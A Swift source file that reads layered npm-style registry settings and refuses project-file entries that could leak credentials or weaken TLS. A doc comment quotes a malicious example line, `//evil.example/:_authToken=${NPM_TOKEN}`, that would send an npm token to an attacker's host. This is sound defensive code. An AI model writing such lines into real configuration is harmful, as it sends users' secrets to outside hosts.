import PackageModel
import Registry

extension RegistryConfiguration {
    /// Merges layers, the first of which wins, as npm does.
    ///
    /// A project's file is written by whoever writes the project, and a pull request may change it. So it may not weaken
    /// what the user set up (certificates), and may use variables only for an origin that the user's own layers or the
    /// default registry name: `//evil.example/:_authToken=${NPM_TOKEN}` would send a token away. What is refused is said
    /// in `notices`.
    ///
    /// - Parameter variables: what `${NAME}` stands for.
    package init(layers: [ConfigurationLayer], variables: [String: String]) {
        self.init()
        var reader = ConfigurationReader(variables: variables, trusted: Self.trustedOrigins(layers, variables))
        for layer in layers {
            for entry in layer.entries { reader.read(entry, from: layer) }
        }
        reader.finish(into: &self)
    }

    private static func trustedOrigins(
        _ layers: [ConfigurationLayer], _ variables: [String: String]
    ) -> Set<WebAddress.Origin> {
        var origins: Set<WebAddress.Origin> = []
        if let standard = WebAddress(Endpoints.defaultRegistry) { origins.insert(standard.origin) }
        for layer in layers where layer.kind != .project {
            for entry in layer.entries {
                let key = VariableExpansion(entry.key, variables).text
                let value = VariableExpansion(entry.value, variables).text
                let address = CredentialKey(key)?.nerfDart.https ?? UserInfo(splitting: value).address
                if let origin = WebAddress(address)?.origin { origins.insert(origin) }
            }
        }
        return origins
    }
}

/// Collects settings layer by layer.
struct ConfigurationReader {
    let variables: [String: String]
    let trusted: Set<WebAddress.Origin>
    private var settings: [String: String] = [:]
    private var scopes: [String: String] = [:]
    private var credentials: [NerfDart: [CredentialKey.Field: String]] = [:]
    private var embedded: [(address: WebAddress, authorization: Secret)] = []
    private var certificates: [String] = []
    private var notices: [String] = []

    init(variables: [String: String], trusted: Set<WebAddress.Origin>) {
        self.variables = variables
        self.trusted = trusted
    }

    mutating func read(_ entry: NPMRC.Entry, from layer: ConfigurationLayer) {
        let key = VariableExpansion(entry.key, variables)
        let value = VariableExpansion(entry.value, variables)
        let place = entry.line == 0 ? layer.name : "\(layer.name): line \(entry.line)"
        if layer.kind == .project, let reason = refusal(of: key, value) {
            notices.append("\(place): \(reason)")
            return
        }
        if key.text.hasPrefix("//") {
            readCredential(key.text, value, place)
        } else if key.text.hasPrefix("@"), key.text.hasSuffix(":registry") {
            let scope = String(key.text.dropFirst().dropLast(":registry".count))
            if scopes[scope] == nil { scopes[scope] = withoutUserInfo(value.text) }
        } else if key.text == "ca" || key.text == "ca[]" {
            if Self.isSet(value.text) { certificates.append(Self.withLineFeeds(value.text)) }
        } else if ["_auth", "_authToken", "_password", "username"].contains(key.text) {
            notices.append("\(place): `\(key.text)` without a registry is not used; write `//host/:\(key.text)`")
        } else if settings[key.text] == nil {
            settings[key.text] = key.text == "registry" ? withoutUserInfo(value.text) : value.text
        }
    }

    /// Why an entry of a project's file is not used; nil for what it may say.
    private func refusal(of key: VariableExpansion, _ value: VariableExpansion) -> String? {
        switch key.text {
        case "strict-ssl" where value.text == "false", "ca", "ca[]", "cafile":
            return "`\(key.text)` decides whom to trust, which a project's file may not; set it in your own"
        default: break
        }
        guard key.usesVariables || value.usesVariables else { return nil }
        let address = CredentialKey(key.text)?.nerfDart.https ?? UserInfo(splitting: value.text).address
        guard let origin = WebAddress(address)?.origin else {
            // No address, so that nothing is sent anywhere, or none that could be judged.
            return key.text.hasPrefix("//") || key.text.hasSuffix("registry") || key.text.hasSuffix("proxy")
                ? "uses a variable in an address that cannot be read; refused" : nil
        }
        let isTrusted = trusted.contains { $0.host == origin.host && $0.port == origin.port }
        return isTrusted
            ? nil : "would send a variable to a host that your own configuration does not name; refused"
    }

    private mutating func readCredential(_ key: String, _ value: VariableExpansion, _ place: String) {
        guard let key = CredentialKey(key) else { return }
        guard WebAddress(key.nerfDart.https) != nil else {
            notices.append("\(place): names no registry and is not used")
            return
        }
        if let name = value.missing.first {
            notices.append("\(place): the variable `\(name)` is not set; the credential is not used")
            return
        }
        guard value.text.utf8.allSatisfy({ (0x20...0x7E).contains($0) }) else {
            notices.append("\(place): the credential has characters that none has; it is not used")
            return
        }
        if credentials[key.nerfDart]?[key.field] == nil {
            credentials[key.nerfDart, default: [:]][key.field] = value.text
        }
    }

    /// An address as it is used; what it has of a user name and a password becomes a credential for it.
    private mutating func withoutUserInfo(_ text: String) -> String {
        let parts = UserInfo(splitting: text)
        if let authorization = parts.authorization, let address = WebAddress(parts.address) {
            embedded.append((address, authorization))
        }
        return parts.address
    }

    mutating func finish(into configuration: inout RegistryConfiguration) {
        if let registry = settings["registry"] { configuration.registry = registry }
        configuration.scopedRegistries = scopes
        configuration.certificates = certificates
        if let file = settings["cafile"], Self.isSet(file) { configuration.certificateFiles = [file] }
        configuration.verifiesTLS = settings["strict-ssl"] != "false"
        configuration.httpsProxy = proxy("https-proxy", "HTTPS_PROXY", "https_proxy") ?? proxy("proxy")
        configuration.httpProxy = proxy("http-proxy") ?? proxy("proxy", "HTTP_PROXY", "http_proxy")
        let direct = settings["noproxy"] ?? variables["NO_PROXY"] ?? variables["no_proxy"] ?? ""
        configuration.noProxy = direct.split { $0 == "," || $0 == " " }.map { $0.lowercased() }
        addCredentials(to: &configuration)
        if !configuration.verifiesTLS {
            notices.append("`strict-ssl` is off: nobody vouches for the servers that are asked")
        }
        configuration.notices = notices
    }

    private mutating func addCredentials(to configuration: inout RegistryConfiguration) {
        // A nerf dart leaves out the scheme: `https`, and `http` too if a registry that is used is at that place.
        let used = ([configuration.registry] + scopes.values).compactMap(WebAddress.init)
        for (dart, fields) in credentials.sorted(by: { precedesBytewise($0.key.text, $1.key.text) }) {
            guard let authorization = Self.authorization(fields) else { continue }
            for address in [dart.https, dart.http].compactMap(WebAddress.init)
            where address.origin.isSecure || used.contains(where: { $0.origin == address.origin }) {
                configuration.credentials.add(authorization, for: address)
                if !address.origin.isSecure, !address.origin.isLoopback {
                    notices.append("credentials for `\(address.origin)` are not sent: the connection is not secure")
                }
            }
        }
        for (address, authorization) in embedded { configuration.credentials.add(authorization, for: address) }
    }

    private func proxy(_ setting: String, _ names: String...) -> Secret? {
        for value in [settings[setting]] + names.map({ variables[$0] }) {
            if let value, Self.isSet(value), value != "false" { return Secret(value) }
        }
        return nil
    }

    private static func authorization(_ fields: [CredentialKey.Field: String]) -> Secret? {
        if let token = fields[.authToken], !token.isEmpty { return Secret("Bearer \(token)") }
        if let basic = fields[.auth], !basic.isEmpty { return Secret("Basic \(basic)") }
        guard let user = fields[.username], let encoded = fields[.password], let password = Base64.decode(encoded)
        else { return nil }
        return Secret("Basic " + Base64.encode(Array(user.utf8) + [UInt8(ascii: ":")] + password))
    }

    private static func isSet(_ value: String) -> Bool { !value.isEmpty && value != "null" }

    private static func withLineFeeds(_ text: String) -> String {
        text.split(separator: "\\n", omittingEmptySubsequences: false).joined(separator: "\n")
    }
}
